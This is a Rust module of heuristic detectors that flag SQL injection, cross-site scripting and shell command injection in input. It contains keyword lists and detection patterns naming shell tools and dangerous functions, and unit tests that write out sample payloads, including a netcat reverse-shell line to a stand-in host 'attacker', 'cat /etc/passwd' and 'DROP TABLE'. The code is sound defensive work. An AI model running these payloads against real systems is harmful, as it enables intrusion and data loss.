//! Injection signals: heuristics that flag input looking like SQL injection,
//! cross-site scripting or shell command injection.
//!
//! These are **defense in depth, never the defense**. They are for logging,
//! alerting, rate limiting and raising the bar on scanners; the defenses are
//! parameterized queries, context-aware output encoding
//! ([`escape_html`](crate::output::escape_html), [`sanitize_html`](crate::output::sanitize_html)
//! with feature `html`) and never passing input to a shell. A payload written
//! to evade them will get through, and some honest input will be flagged:
//! the crate README publishes both rates on public corpora.

use std::borrow::Cow;

/// What a detector found.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Verdict {
    /// Nothing suspicious.
    Clean,
    /// Looks like an injection attempt, with the rule that matched.
    Suspicious(&'static str),
}

impl Verdict {
    /// Whether a rule matched.
    #[must_use]
    pub const fn is_suspicious(self) -> bool {
        matches!(self, Self::Suspicious(_))
    }

    /// The rule that matched.
    #[must_use]
    pub const fn reason(self) -> Option<&'static str> {
        match self {
            Self::Clean => None,
            Self::Suspicious(reason) => Some(reason),
        }
    }
}

/// Longest input the detectors look at; longer input is judged on its first
/// 16 KiB.
const MAX_INSPECT: usize = 16 * 1024;

/// Percent-decodes (up to three rounds), decodes HTML character references
/// when asked, and lowercases.
fn normalize(input: &str, html_entities: bool) -> String {
    let mut text: Cow<'_, str> = Cow::Borrowed(truncate(input));
    for _ in 0..3 {
        if !text.contains('%') {
            break;
        }
        let decoded = percent_decode(&text);
        if decoded == text {
            break;
        }
        text = Cow::Owned(decoded);
    }
    if html_entities && text.contains('&') {
        text = Cow::Owned(decode_entities(&text));
    }
    text.to_lowercase()
}

fn truncate(input: &str) -> &str {
    if input.len() <= MAX_INSPECT {
        return input;
    }
    let mut end = MAX_INSPECT;
    while !input.is_char_boundary(end) {
        end -= 1;
    }
    &input[..end]
}

fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%'
            && let (Some(h), Some(l)) = (
                bytes.get(i + 1).and_then(|b| char::from(*b).to_digit(16)),
                bytes.get(i + 2).and_then(|b| char::from(*b).to_digit(16)),
            )
        {
            out.push(u8::try_from(h * 16 + l).unwrap_or(b'?'));
            i += 3;
        } else if bytes[i] == b'+' {
            out.push(b' ');
            i += 1;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Decodes `&#NN;`, `&#xHH;` (semicolon optional) and a few named references.
fn decode_entities(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        rest = &rest[amp..];
        let body = &rest[1..];
        let (decoded, used) = if let Some(num) = body.strip_prefix('#') {
            let (hex, digits) = match num.strip_prefix(['x', 'X']) {
                Some(h) => (true, h),
                None => (false, num),
            };
            let len = digits
                .bytes()
                .take_while(|b| {
                    if hex {
                        b.is_ascii_hexdigit()
                    } else {
                        b.is_ascii_digit()
                    }
                })
                .count()
                .min(8);
            let value = u32::from_str_radix(&digits[..len], if hex { 16 } else { 10 }).ok();
            let mut used = 1 + 1 + usize::from(hex) + len;
            if digits[len..].starts_with(';') {
                used += 1;
            }
            (value.and_then(char::from_u32).filter(|_| len > 0), used)
        } else {
            let named = [
                ("lt;", '<'),
                ("gt;", '>'),
                ("quot;", '"'),
                ("apos;", '\''),
                ("amp;", '&'),
                ("colon;", ':'),
                ("tab;", '\t'),
                ("newline;", '\n'),
                ("lpar;", '('),
                ("rpar;", ')'),
            ];
            named
                .iter()
                .find(|(name, _)| {
                    body.get(..name.len())
                        .is_some_and(|p| p.eq_ignore_ascii_case(name))
                })
                .map_or((None, 1), |(name, c)| (Some(*c), 1 + name.len()))
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &rest[used..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn word_positions<'a>(text: &'a str, word: &'a str) -> impl Iterator<Item = usize> + 'a {
    let bytes = text.as_bytes();
    text.match_indices(word).map(|(i, _)| i).filter(move |&i| {
        let before = i == 0 || !is_word_byte(bytes[i - 1]);
        let end = i + word.len();
        let after = end >= bytes.len() || !is_word_byte(bytes[end]);
        before && after
    })
}

/// Skips white space and SQL comments from `i`.
fn skip_sql_space(bytes: &[u8], mut i: usize) -> usize {
    loop {
        while i < bytes.len() && (bytes[i].is_ascii_whitespace() || bytes[i] == b'+') {
            i += 1;
        }
        if bytes[i..].starts_with(b"/*") {
            match bytes[i + 2..].windows(2).position(|w| w == b"*/") {
                Some(end) => i += 2 + end + 2,
                None => return bytes.len(),
            }
        } else {
            return i;
        }
    }
}

fn word_at(bytes: &[u8], i: usize) -> &[u8] {
    let end = bytes[i..]
        .iter()
        .position(|b| !is_word_byte(*b))
        .map_or(bytes.len(), |n| i + n);
    &bytes[i..end]
}

/// Flags input that looks like SQL injection: a quote or parenthesis
/// breaking out into SQL (`' OR 1=1--`, `') UNION SELECT`), boolean
/// tautologies, stacked queries, time-delay functions, comment truncation,
/// and references to catalogs and dangerous functions. Percent-encoding and
/// inline comments are undone first.
///
/// Defense in depth only: use parameterized queries.
///
/// # Examples
///
/// ```
/// use pr_security::signals::{Verdict, sql_injection_signal};
///
/// assert!(sql_injection_signal("' OR '1'='1' --").is_suspicious());
/// assert!(sql_injection_signal("1 UNION/**/SELECT password FROM users").is_suspicious());
/// assert_eq!(sql_injection_signal("O'Brien or Smith"), Verdict::Clean);
/// ```
#[must_use]
pub fn sql_injection_signal(input: &str) -> Verdict {
    let text = normalize(input, false);
    let bytes = text.as_bytes();
    // union [all|distinct] select
    for i in word_positions(&text, "union") {
        let mut j = skip_sql_space(bytes, i + 5);
        let next = word_at(bytes, j);
        if next == b"all" || next == b"distinct" {
            j = skip_sql_space(bytes, j + next.len());
        }
        while bytes.get(j) == Some(&b'(') {
            j = skip_sql_space(bytes, j + 1);
        }
        if word_at(bytes, j) == b"select" {
            return Verdict::Suspicious("union select");
        }
    }
    // ; followed by a statement
    for (i, _) in text.match_indices(';') {
        if stacked_statement(bytes, skip_sql_space(bytes, i + 1)) {
            return Verdict::Suspicious("stacked query");
        }
    }
    for needle in [
        "sleep(",
        "benchmark(",
        "pg_sleep(",
        "waitfor delay",
        "dbms_pipe.receive_message",
        "randomblob(",
        "dbms_lock.sleep",
    ] {
        if contains_squashed(&text, needle) {
            return Verdict::Suspicious("time-delay function");
        }
    }
    for needle in [
        "information_schema",
        "@@version",
        "xp_cmdshell",
        "load_file(",
        "into outfile",
        "into dumpfile",
        "sysobjects",
        "pg_catalog",
        "utl_http",
        "extractvalue(",
        "updatexml(",
        "sqlite_master",
        "all_tables",
        "msysobjects",
        "sp_executesql",
        "exec master",
    ] {
        if contains_squashed(&text, needle) {
            return Verdict::Suspicious("sql catalog or dangerous function");
        }
    }
    if text.contains("/*!") {
        return Verdict::Suspicious("mysql versioned comment");
    }
    // A quote or closing parenthesis followed by SQL.
    for (i, b) in bytes.iter().enumerate() {
        if !matches!(b, b'\'' | b'"' | b')') {
            continue;
        }
        let quote = *b != b')';
        if quote && bytes[i + 1..].starts_with(b"/*") {
            return Verdict::Suspicious("quote followed by a comment or terminator");
        }
        let mut j = i + 1;
        while bytes.get(j) == Some(&b')') {
            j += 1;
        }
        j = skip_sql_space(bytes, j);
        let rest = &bytes[j.min(bytes.len())..];
        if quote && (rest.starts_with(b"--") || rest.starts_with(b"#")) {
            return Verdict::Suspicious("quote followed by a comment or terminator");
        }
        if quote && rest.starts_with(b";") {
            let k = skip_sql_space(bytes, j + 1);
            let after = &bytes[k.min(bytes.len())..];
            if after.is_empty() || after.starts_with(b"--") || after.starts_with(b"#") {
                return Verdict::Suspicious("quote followed by a comment or terminator");
            }
        }
        let word = word_at(bytes, j.min(bytes.len()));
        let after_word = j + word.len();
        if (word == b"order" || word == b"group")
            && word_at(bytes, skip_sql_space(bytes, after_word)) == b"by"
        {
            return Verdict::Suspicious("quote breaks out into sql");
        }
        let after_logical = if matches!(word, b"or" | b"and" | b"xor") {
            Some(after_word)
        } else if rest.starts_with(b"||") || rest.starts_with(b"&&") {
            Some(j + 2)
        } else {
            None
        };
        if let Some(at) = after_logical {
            if tautology_at(bytes, at) || (quote && logical_breakout(bytes, at)) {
                return Verdict::Suspicious("quote breaks out into sql");
            }
            continue;
        }
        if quote
            && matches!(
                word,
                b"having"
                    | b"union"
                    | b"select"
                    | b"like"
                    | b"rlike"
                    | b"regexp"
                    | b"procedure"
                    | b"into"
                    | b"limit"
                    | b"where"
            )
            && sql_operand_follows(bytes, after_word)
        {
            return Verdict::Suspicious("quote breaks out into sql");
        }
    }
    // Probes: an operator between quotes (`'-'`, `"&"`), the whole input.
    if let [q1, op, q2] = text.trim().as_bytes()
        && q1 == q2
        && matches!(q1, b'\'' | b'"')
        && matches!(op, b'-' | b'&' | b'^' | b'*' | b'|' | b'+')
    {
        return Verdict::Suspicious("operator probe between quotes");
    }
    // `order by 3--`: column-count probes.
    for i in word_positions(&text, "order") {
        let j = skip_sql_space(bytes, i + 5);
        if word_at(bytes, j) == b"by" {
            let k = skip_sql_space(bytes, j + 2);
            let number = word_at(bytes, k);
            if !number.is_empty() && number.iter().all(u8::is_ascii_digit) {
                let m = skip_sql_space(bytes, k + number.len());
                let rest = &bytes[m.min(bytes.len())..];
                if rest.is_empty()
                    || rest.starts_with(b"--")
                    || rest.starts_with(b"#")
                    || rest.starts_with(b";")
                {
                    return Verdict::Suspicious("order by probe");
                }
            }
        }
    }
    // A condition fragment: the input starts with `or` / `and` / `having` /
    // `where` and a comparison.
    let lead = skip_sql_space(bytes, 0);
    let first = word_at(bytes, lead);
    if matches!(first, b"or" | b"and" | b"having" | b"where" | b"xor")
        && comparison_at(bytes, lead + first.len())
    {
        return Verdict::Suspicious("sql condition fragment");
    }
    // Tautologies without a quote: `or 1=1`, `and 3>2`, `or true`.
    for op in ["or", "and", "xor"] {
        for i in word_positions(&text, op) {
            if tautology_at(bytes, i + op.len()) {
                return Verdict::Suspicious("boolean tautology");
            }
        }
    }
    Verdict::Clean
}

/// Whether `needle` occurs once inline comments and spaces before `(` are gone.
fn contains_squashed(text: &str, needle: &str) -> bool {
    if text.contains(needle) {
        return true;
    }
    if !text.contains("/*") && !text.contains(" (") {
        return false;
    }
    let mut squashed = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("/*") {
        squashed.push_str(&rest[..start]);
        squashed.push(' ');
        rest = rest[start + 2..]
            .find("*/")
            .map_or("", |end| &rest[start + 2 + end + 2..]);
    }
    squashed.push_str(rest);
    // No white space before `(`: `sleep /**/ (5)` is `sleep(5)`.
    let mut tight = String::with_capacity(squashed.len());
    for c in squashed.chars() {
        if c == '(' {
            while tight.ends_with(char::is_whitespace) {
                tight.pop();
            }
        }
        tight.push(c);
    }
    tight.contains(needle)
}

/// After `or`/`and`: an operand, an operator, an operand; or a boolean literal;
/// or a function call / subquery.
fn sql_operand_follows(bytes: &[u8], i: usize) -> bool {
    let j = skip_sql_space(bytes, i);
    match bytes.get(j) {
        None => false,
        Some(b'\'' | b'"' | b'(' | b'@' | b'-' | b'#') => true,
        Some(b) if b.is_ascii_digit() => true,
        Some(_) => {
            let word = word_at(bytes, j);
            matches!(
                word,
                b"true"
                    | b"false"
                    | b"null"
                    | b"not"
                    | b"select"
                    | b"exists"
                    | b"sleep"
                    | b"if"
                    | b"case"
            ) || {
                let k = skip_sql_space(bytes, j + word.len());
                matches!(bytes.get(k), Some(b'=' | b'<' | b'>' | b'!'))
                    || word_at(bytes, k) == b"like"
                    || word_at(bytes, k) == b"is"
            }
        }
    }
}

/// After a quote and `or`/`and`: a literal, a function or subquery, or a
/// quoted / parenthesized operand with an operator or comment later on
/// (so `"A" or "B"` in prose is not flagged).
fn logical_breakout(bytes: &[u8], i: usize) -> bool {
    let j = skip_sql_space(bytes, i);
    let word = word_at(bytes, j.min(bytes.len()));
    if matches!(
        word,
        b"true" | b"false" | b"null" | b"not" | b"select" | b"exists" | b"sleep" | b"if" | b"case"
    ) {
        return true;
    }
    let starts_operand = matches!(bytes.get(j), Some(b'\'' | b'"' | b'(' | b'@'))
        || bytes.get(j).is_some_and(u8::is_ascii_digit);
    if !starts_operand {
        let k = skip_sql_space(bytes, j + word.len());
        return !word.is_empty() && matches!(bytes.get(k), Some(b'=' | b'<' | b'>'));
    }
    let rest = &bytes[j..];
    rest.iter().any(|b| {
        matches!(
            b,
            b'=' | b'<' | b'>' | b'-' | b'&' | b'^' | b'*' | b'|' | b'+' | b'#'
        )
    }) || rest.windows(4).any(|w| w == b"like")
        || (rest.len() >= 2 && rest[1..].iter().all(|b| matches!(b, b'\'' | b'"' | b' ')))
}

/// A statement after `;` that looks like SQL rather than prose.
fn stacked_statement(bytes: &[u8], j: usize) -> bool {
    let word = word_at(bytes, j.min(bytes.len()));
    let k = skip_sql_space(bytes, j + word.len()).min(bytes.len());
    let next = word_at(bytes, k);
    let rest = &bytes[k..];
    match word {
        b"select" => {
            rest.windows(4).any(|w| w == b"from")
                || matches!(rest.first(), Some(b'*' | b'@' | b'(' | b'\'' | b'0'..=b'9'))
                || next == b"null"
        }
        b"insert" => next == b"into",
        b"update" => rest.windows(5).any(|w| w == b" set "),
        b"delete" => next == b"from",
        b"drop" | b"alter" | b"create" | b"truncate" => matches!(
            next,
            b"table"
                | b"database"
                | b"user"
                | b"view"
                | b"index"
                | b"procedure"
                | b"function"
                | b"schema"
                | b"login"
                | b"trigger"
                | b"column"
        ),
        b"exec" | b"execute" => {
            next.starts_with(b"xp_")
                || next.starts_with(b"sp_")
                || next == b"master"
                || matches!(rest.first(), Some(b'(' | b'@' | b'\''))
        }
        b"declare" => rest.first() == Some(&b'@'),
        b"shutdown" => rest.is_empty() || rest.starts_with(b"--") || rest.starts_with(b"#"),
        b"waitfor" => next == b"delay" || next == b"time",
        _ => false,
    }
}

/// `operand op operand` at `i` (words, numbers or quoted strings).
fn comparison_at(bytes: &[u8], i: usize) -> bool {
    let j = skip_sql_space(bytes, i);
    let operand_len = |at: usize| -> usize {
        match bytes.get(at) {
            Some(q @ (b'\'' | b'"')) => bytes[at + 1..]
                .iter()
                .position(|b| b == q)
                .map_or(bytes.len() - at, |p| p + 2),
            Some(b'(') => 1,
            _ => word_at(bytes, at.min(bytes.len())).len(),
        }
    };
    let first = operand_len(j);
    if first == 0 {
        return false;
    }
    let k = skip_sql_space(bytes, j + first);
    let op = match bytes.get(k..) {
        Some([b'<', b'>', ..] | [b'!', b'=', ..] | [b'>', b'=', ..] | [b'<', b'=', ..]) => 2,
        Some([b'=' | b'<' | b'>', ..]) => 1,
        _ if word_at(bytes, k.min(bytes.len())) == b"like" => 4,
        _ => return false,
    };
    let m = skip_sql_space(bytes, k + op);
    operand_len(m) > 0
}

fn tautology_at(bytes: &[u8], i: usize) -> bool {
    let j = skip_sql_space(bytes, i);
    let first = word_at(bytes, j);
    if first == b"true"
        || first == b"1" && {
            let k = skip_sql_space(bytes, j + 1);
            k >= bytes.len() || matches!(bytes.get(k), Some(b'-' | b'#' | b';' | b')'))
        }
    {
        return true;
    }
    if first.is_empty() {
        return false;
    }
    let k = skip_sql_space(bytes, j + first.len());
    let op_len = match bytes.get(k..) {
        Some([b'<', b'>', ..] | [b'!', b'=', ..] | [b'>', b'=', ..] | [b'<', b'=', ..]) => 2,
        Some([b'=' | b'<' | b'>', ..]) => 1,
        _ if word_at(bytes, k) == b"like" => 4,
        _ => return false,
    };
    let m = skip_sql_space(bytes, k + op_len);
    let second = word_at(bytes, m);
    // Both sides numbers, or the same word: `1=1`, `2>1`, `x=x`, `a like a`.
    (!second.is_empty()
        && first.iter().all(u8::is_ascii_digit)
        && second.iter().all(u8::is_ascii_digit))
        || (!second.is_empty() && first == second)
}

/// Flags input that looks like cross-site scripting: `<script>`, event
/// handler attributes (`<svg/onload=`), `javascript:` / `vbscript:` /
/// `data:text/html` URLs (with control characters and entities undone),
/// dangerous tags (`iframe`, `object`, `embed`, `base`, `meta`), tag and
/// attribute break-outs, and script sinks (`document.cookie`, `eval(`,
/// `alert(`).
///
/// Defense in depth only: encode output for its context.
///
/// # Examples
///
/// ```
/// use pr_security::signals::{Verdict, xss_signal};
///
/// assert!(xss_signal("<img src=x onerror=alert(1)>").is_suspicious());
/// assert!(xss_signal("jav&#x09;ascript:alert(1)").is_suspicious());
/// assert_eq!(xss_signal("Tom & Jerry <3 cartoons"), Verdict::Clean);
/// ```
#[must_use]
pub fn xss_signal(input: &str) -> Verdict {
    let decoded = normalize(input, true);
    // Browsers ignore these inside tags and URL schemes.
    let text: String = decoded
        .chars()
        .filter(|c| !matches!(c, '\0' | '\t' | '\n' | '\r' | '\u{b}' | '\u{c}'))
        .collect();
    let bytes = text.as_bytes();
    if text.contains("<script") || text.contains("</script") {
        return Verdict::Suspicious("script tag");
    }
    for scheme in [
        "javascript:",
        "vbscript:",
        "livescript:",
        "data:text/html",
        "data:image/svg+xml",
        "data:application/x",
    ] {
        if text.contains(scheme) {
            return Verdict::Suspicious("script url");
        }
    }
    // `javascript:` split by spaces or other junk browsers skip at the start.
    if compact(&text).contains("javascript:") {
        return Verdict::Suspicious("script url");
    }
    for tag in [
        "<iframe",
        "<object",
        "<embed",
        "<base",
        "<meta",
        "<applet",
        "<frame",
        "<frameset",
        "<xss",
        "<import",
        "<link",
        "<style",
        "<form",
        "<isindex",
        "<math",
        "<svg",
        "<xml",
    ] {
        if text.contains(tag) {
            return Verdict::Suspicious("dangerous tag");
        }
    }
    // An `on...=` attribute inside a tag or after an attribute break-out.
    for (i, _) in text.match_indices("on") {
        let before = i.checked_sub(1).map(|p| bytes[p]);
        if !matches!(before, Some(b' ' | b'/' | b'"' | b'\'' | b'`' | b';')) {
            continue;
        }
        let name_len = bytes[i + 2..]
            .iter()
            .take_while(|b| b.is_ascii_alphabetic())
            .count();
        if name_len < 3 {
            continue;
        }
        let mut k = i + 2 + name_len;
        while bytes.get(k) == Some(&b' ') {
            k += 1;
        }
        if bytes.get(k) == Some(&b'=')
            && (text[..i].contains('<') || text[..i].contains(['"', '\'']))
        {
            return Verdict::Suspicious("event handler attribute");
        }
    }
    for attr in [
        "srcdoc=",
        "formaction=",
        "xlink:href",
        "expression(",
        "-moz-binding",
        "behavior:",
    ] {
        if text.contains(attr) {
            return Verdict::Suspicious("dangerous attribute or style");
        }
    }
    for sink in [
        "document.cookie",
        "document.domain",
        "document.write",
        "eval(",
        "alert(",
        "alert`",
        "prompt(",
        "prompt`",
        "confirm(",
        "confirm`",
        "fromcharcode",
        "window.location",
        ".innerhtml",
        "settimeout(",
        "constructor(",
    ] {
        if text.contains(sink) {
            return Verdict::Suspicious("script sink");
        }
    }
    // `"><tag` and `<tag ...>` break-outs with letters after `<`.
    // `"><tag`: leaving an attribute and opening a tag.
    for pattern in ["\"><", "'><", "\"/><"] {
        for (at, _) in text.match_indices(pattern) {
            if bytes
                .get(at + pattern.len())
                .is_some_and(u8::is_ascii_alphabetic)
            {
                return Verdict::Suspicious("tag break-out");
            }
        }
    }
    Verdict::Clean
}

fn compact(text: &str) -> String {
    text.chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect()
}

/// Commands attackers run first.
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "cat",
    "ls",
    "dir",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "ping",
    "sleep",
    "echo",
    "rm",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "nslookup",
    "dig",
    "ifconfig",
    "ipconfig",
    "net",
    "type",
    "whoami.exe",
    "powershell",
    "cmd",
    "cmd.exe",
    "systeminfo",
    "hostname",
    "env",
    "printenv",
    "chmod",
    "chown",
    "touch",
    "tftp",
    "telnet",
    "xterm",
    "nohup",
    "base64",
    "sudo",
    "su",
    "kill",
    "reboot",
    "shutdown",
    "find",
    "grep",
    "head",
    "tail",
    "more",
    "less",
    "expr",
    "timeout",
    "usleep",
    "ps",
    "netstat",
    "netsh",
    "reg",
    "route",
    "sysinfo",
    "arp",
    "nmap",
    "ssh",
    "scp",
    "crontab",
    "awk",
    "sed",
    "xargs",
    "mkfifo",
    "certutil",
    "bitsadmin",
    "wscript",
    "cscript",
];

/// Flags input that looks like shell command injection: a command
/// separator (`;`, `|`, `||`, `&&`, `&`, a newline) or a substitution (`` ` ``,
/// `$(`) followed by a common command, `${IFS}` tricks, shell paths
/// (`/bin/sh`, `cmd.exe`), and redirections to absolute paths.
///
/// Defense in depth only: never pass input to a shell; pass arguments to
/// `std::process::Command` one by one.
///
/// # Examples
///
/// ```
/// use pr_security::signals::{Verdict, command_injection_signal};
///
/// assert!(command_injection_signal("8.8.8.8; cat /etc/passwd").is_suspicious());
/// assert!(command_injection_signal("$(whoami)").is_suspicious());
/// assert_eq!(command_injection_signal("Fish & Chips; Salt"), Verdict::Clean);
/// ```
#[must_use]
pub fn command_injection_signal(input: &str) -> Verdict {
    let text = normalize(input, false);
    let bytes = text.as_bytes();
    if text.contains("${ifs") || text.contains("$ifs") {
        return Verdict::Suspicious("ifs obfuscation");
    }
    for shell in [
        "/bin/sh",
        "/bin/bash",
        "/bin/zsh",
        "/usr/bin/",
        "/bin/nc",
        "/dev/tcp/",
        "cmd.exe",
        "cmd /c",
        "powershell",
    ] {
        if text.contains(shell) {
            return Verdict::Suspicious("shell path");
        }
    }
    if let Some(start) = text.find("$(")
        && text[start..].contains(')')
    {
        return Verdict::Suspicious("command substitution");
    }
    if let Some(start) = text.find('`')
        && let Some(len) = text[start + 1..].find('`')
    {
        let inner = &text[start + 1..start + 1 + len];
        // In prose, `id` or `type` in backticks is code formatting; count a
        // bare ambiguous word only at the start or after a separator.
        let at_boundary = text[..start]
            .trim_end()
            .chars()
            .next_back()
            .is_none_or(|c| matches!(c, ';' | '|' | '&' | '(' | '$' | '=' | '\'' | '"'));
        let word = inner.trim();
        if first_word_is_command(inner) && (at_boundary || !AMBIGUOUS.contains(&word)) {
            return Verdict::Suspicious("command substitution");
        }
    }
    for call in [
        "system(",
        "exec(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "proc_open(",
        "pcntl_exec(",
        "runtime.getruntime",
        "child_process",
        "os.system(",
        "subprocess.",
    ] {
        if text.contains(call) {
            return Verdict::Suspicious("code execution call");
        }
    }
    for (i, b) in bytes.iter().enumerate() {
        // A literal `\n` (backslash, n) is a separator once something unescapes it.
        if *b == b'\\' && bytes.get(i + 1) == Some(&b'n') && first_word_is_command(&text[i + 2..]) {
            return Verdict::Suspicious("command separator followed by a command");
        }
        if matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r') {
            let mut j = i + 1;
            while bytes
                .get(j)
                .is_some_and(|c| matches!(c, b'|' | b'&' | b' ' | b'\t' | b'\n' | b'\r'))
            {
                j += 1;
            }
            if first_word_is_command(&text[j..]) {
                return Verdict::Suspicious("command separator followed by a command");
            }
        }
    }
    for redirect in ["> /", ">/", ">> /", "< /etc", "</etc"] {
        if text.contains(redirect) {
            return Verdict::Suspicious("redirection to an absolute path");
        }
    }
    Verdict::Clean
}

/// Command names that are also common words: they count only when an
/// argument-like token or nothing follows.
const AMBIGUOUS: &[&str] = &[
    "cat", "dir", "type", "net", "more", "less", "head", "tail", "find", "echo", "sleep", "kill",
    "env", "touch", "expr", "ping", "su", "id", "ls", "ps", "sh", "timeout", "grep",
];

/// Whether `text` starts with a known command as a whole word.
fn first_word_is_command(text: &str) -> bool {
    let trimmed = text.trim_start();
    let word: String = trimmed
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/'))
        .collect();
    let name = word.rsplit('/').next().unwrap_or(&word);
    if !COMMANDS.contains(&name) {
        return false;
    }
    let rest = &trimmed[word.len()..];
    let Some(after) = rest.chars().next() else {
        return true;
    };
    if matches!(
        after,
        ';' | '|' | '&' | '`' | ')' | '$' | '<' | '>' | '\n' | '\r' | '#' | '\\'
    ) {
        return true;
    }
    if !matches!(after, ' ' | '\t') {
        return false;
    }
    if !AMBIGUOUS.contains(&name) {
        return true;
    }
    let arg = rest.trim_start();
    arg.is_empty()
        || arg.starts_with(|c: char| {
            c.is_ascii_digit()
                || matches!(
                    c,
                    '-' | '/' | '.' | '$' | '~' | '\'' | '"' | '*' | ';' | '|' | '&' | '\n'
                )
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sql() {
        for attack in [
            "' or 1=1--",
            "admin'--",
            "admin' #",
            "') or ('a'='a",
            "1 or 1=1",
            "1' AND SLEEP(5)#",
            "1;DROP TABLE users",
            "1 union all select null,null",
            "%27%20OR%20%271%27%3D%271",
            "' || '1'='1",
            "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
            "x' AND extractvalue(1,concat(0x7e,version()))--",
            "' OR 'x'='x",
            "1' ORDER BY 3--+",
            "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
        ] {
            assert!(sql_injection_signal(attack).is_suspicious(), "{attack}");
        }
        for honest in [
            "O'Brien",
            "rock 'n' roll",
            "Don't stop me now",
            "Tom and Jerry",
            "salt or pepper",
            "1 + 1 = 2",
            "he said \"hello\" and left",
            "SELECT your seat",
            "it's 5 o'clock -- time to go",
            "(see above)",
            "what's new; anything?",
        ] {
            assert_eq!(sql_injection_signal(honest), Verdict::Clean, "{honest}");
        }
    }

    #[test]
    fn xss() {
        for attack in [
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<svg/onload=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;img src=x onerror=alert(1)&gt;",
            "<iframe src=//evil>",
            "<body onload=alert(1)>",
            "'><img src=x>",
            "javascript&colon;alert(1)",
        ] {
            assert!(xss_signal(attack).is_suspicious(), "{attack}");
        }
        for honest in [
            "Tom & Jerry",
            "I <3 Rust",
            "a < b and b > c",
            "The meeting is on Monday",
            "Use the <b> tag for bold",
            "https://example.com/?q=online",
            "Ask me about the conference",
        ] {
            assert_eq!(xss_signal(honest), Verdict::Clean, "{honest}");
        }
    }

    #[test]
    fn command() {
        for attack in [
            "; id",
            "| whoami",
            "&& cat /etc/passwd",
            "`id`",
            "$(sleep 5)",
            "a;${IFS}cat${IFS}/etc/passwd",
            "127.0.0.1\nls -la",
            "x | nc attacker 4444 -e /bin/sh",
            "|| ping -c 10 127.0.0.1",
            "& dir",
        ] {
            assert!(command_injection_signal(attack).is_suspicious(), "{attack}");
        }
        for honest in [
            "Fish & Chips",
            "rock | roll",
            "Q&A; session",
            "Salt & Pepper; Sugar",
            "price: $5 (about)",
            "see: cat pictures",
            "Tom & Jerry; Cat and Mouse",
        ] {
            assert_eq!(command_injection_signal(honest), Verdict::Clean, "{honest}");
        }
    }

    #[test]
    fn each_sql_rule() {
        let cases = [
            ("1 order by 5--", "order by probe"),
            (" or x=y#", "sql condition fragment"),
            (" having 1=1", "sql condition fragment"),
            ("x' having 1=1", "quote breaks out into sql"),
            ("x'; select * from t", "stacked query"),
            ("1; insert into t values (1)", "stacked query"),
            ("1; update t set a=1", "stacked query"),
            ("1; delete from t", "stacked query"),
            ("1; truncate table t", "stacked query"),
            ("1; exec xp_cmdshell 'dir'", "stacked query"),
            ("1; declare @x int", "stacked query"),
            ("1; shutdown--", "stacked query"),
            ("1; waitfor delay '0:0:5'", "stacked query"),
            ("'-'", "operator probe between quotes"),
            ("x' like 'x", "quote breaks out into sql"),
            ("x' or not 1", "quote breaks out into sql"),
            ("x' having a like b", "quote breaks out into sql"),
            ("x' where a is null", "quote breaks out into sql"),
            ("1/*!50000 select*/", "mysql versioned comment"),
            ("x' || 1=1", "quote breaks out into sql"),
            ("sel/**/ect sleep /**/(5)", "time-delay function"),
            ("1 or 2>1", "boolean tautology"),
            ("1 and a like a", "boolean tautology"),
            ("1 or true", "boolean tautology"),
        ];
        for (input, reason) in cases {
            assert_eq!(
                sql_injection_signal(input),
                Verdict::Suspicious(reason),
                "{input}"
            );
        }
        for honest in [
            "1; select your seat",
            "x; drop it",
            "1; execute the plan",
            "and then x",
        ] {
            assert_eq!(sql_injection_signal(honest), Verdict::Clean, "{honest}");
        }
    }

    #[test]
    fn entities_and_xss_rules() {
        assert_eq!(
            decode_entities("&quot;&apos;&colon;&tab;&newline;&lpar;&rpar;&LT;"),
            "\"':\t\n()<"
        );
        for (input, reason) in [
            (
                "<div style=\"x:expression(1)\">",
                "dangerous attribute or style",
            ),
            ("x\" autofocus onfocus=x", "event handler attribute"),
            ("\"><b>", "tag break-out"),
            ("document.cookie", "script sink"),
            ("j a v a s c r i p t:x", "script url"),
        ] {
            assert_eq!(xss_signal(input), Verdict::Suspicious(reason), "{input}");
        }
        assert_eq!(xss_signal("\"></b>"), Verdict::Clean);
        assert_eq!(Verdict::Suspicious("x").reason(), Some("x"));
    }

    #[test]
    fn huge_and_odd_input_is_fine() {
        let big = "'".repeat(100_000);
        let _ = sql_injection_signal(&big);
        let _ = xss_signal(&big);
        let _ = command_injection_signal(&big);
        assert_eq!(word_positions("a or b orb", "or").count(), 1);
        // Multi-byte characters right after `&` once panicked.
        let _ = xss_signal("&ensp;\u{27f6}&ensp;`x`");
        let _ = xss_signal("&\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}");
        assert_eq!(decode_entities("&#x3c;&#60&lt;&bogus;&#;"), "<<<&bogus;&#;");
    }
}
